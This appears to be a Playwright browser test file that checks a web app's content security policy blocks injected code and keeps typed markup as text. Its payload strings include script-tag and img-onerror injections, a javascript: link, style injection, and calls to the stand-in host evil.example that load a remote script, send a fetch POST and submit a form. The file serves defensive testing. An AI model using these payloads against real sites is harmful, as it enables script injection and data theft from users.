"""The content security policy, tried out: what a stranger smuggles into a page does not run."""

from collections.abc import Callable
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from accounts.models import User
from tests.browser.watching import Watch
from tests.followups.telling import log

pytestmark = [pytest.mark.browser, pytest.mark.needs_service, pytest.mark.django_db(transaction=True)]

SignedIn = Callable[..., Page]
EVIL = "<script>document.title = 'taken over'</script><img src=x onerror=\"document.title = 'taken over'\">"

SMUGGLED = {
    "a script element": """
        const script = document.createElement("script");
        script.textContent = "document.title = 'taken over'";
        document.body.append(script);""",
    "an event attribute": """
        const button = document.createElement("button");
        button.setAttribute("onclick", "document.title = 'taken over'");
        document.body.append(button);
        button.click();""",
    "an address with script": """
        const link = document.createElement("a");
        link.href = "javascript:document.title='taken over'";
        document.body.append(link);
        link.click();""",
    "a script of another host": """
        const script = document.createElement("script");
        script.src = "http://evil.example/x.js";
        document.body.append(script);""",
    "a style attribute": """
        document.body.insertAdjacentHTML("beforeend", "<p id='trap' style='position: fixed'>x</p>");
        const { position } = getComputedStyle(document.getElementById("trap"));
        if (position === "fixed") document.title = "taken over";""",
    "a style element": """
        const style = document.createElement("style");
        style.textContent = "body { position: fixed }";
        document.head.append(style);
        if (getComputedStyle(document.body).position === "fixed") document.title = "taken over";""",
    "a picture of another host": """
        document.body.append(Object.assign(new Image(), { src: "http://evil.example/pixel.png" }));""",
    "a message to another host": """
        fetch("http://evil.example/", { method: "POST", mode: "no-cors" }).then(
          () => { document.title = "taken over"; }, () => {});""",
}


@pytest.fixture
def page(owner: User, signed_in: SignedIn) -> Page:
    log(owner)
    page = signed_in(owner)
    page.goto("/")
    page.evaluate("""() => {
      window.blocked = [];
      document.addEventListener("securitypolicyviolation", (event) => window.blocked.push(event.blockedURI));
    }""")
    return page


def test_nothing_smuggled_into_a_page_runs(page: Page, watch: Watch) -> None:
    title = page.title()
    watch.expect("")  # all that is blocked here complains, as it should
    for what, code in SMUGGLED.items():
        page.evaluate("() => { window.blocked = []; }")
        page.evaluate(f"() => {{ {code} }}")
        page.wait_for_function("() => window.blocked.length > 0")
        assert page.title() == title, what
    strange = [request for request in watch.requests if urlsplit(request.url).hostname != "localhost"]
    assert {request.failure for request in strange} <= {"csp"}, "a request left the host"


def test_a_form_cannot_be_sent_to_another_host(page: Page, watch: Watch) -> None:
    watch.expect("")
    page.evaluate("""() => {
      const form = document.createElement("form");
      Object.assign(form, { action: "http://evil.example/", method: "post" });
      document.body.append(form);
      form.submit();
    }""")
    page.wait_for_function("() => window.blocked.length > 0")
    assert urlsplit(page.url).hostname == "localhost"


def test_our_pages_cannot_be_framed(page: Page, watch: Watch) -> None:
    answer = page.request.get("/")
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    assert answer.headers["x-frame-options"] == "DENY"


def test_markup_in_what_people_type_stays_text_everywhere(owner: User, signed_in: SignedIn) -> None:
    loss = log(owner, EVIL, in_their_words=EVIL, organisation=EVIL, notes=EVIL)
    page = signed_in(owner)
    for path in ("/", "/prospects/", loss.prospect.get_absolute_url(), loss.deal.get_absolute_url()):
        page.goto(path)
        assert "taken over" not in page.title().replace(EVIL, "")
        assert page.locator("img[src=x]").count() == 0
    page.goto("/no/")
    page.get_by_label("Who said no?").press_sequentially("script document title")
    page.get_by_label("Who said no?").fill(EVIL)
    expect(page.locator("img[src=x]")).to_have_count(0)


def test_every_page_says_the_policy(page: Page) -> None:
    for path in ("/", "/no/", "/prospects/", "/settings/", "/mail/", "/nowhere/", "/livez"):
        policy = page.request.get(path).headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert "http" not in policy.replace("https:", "http:")
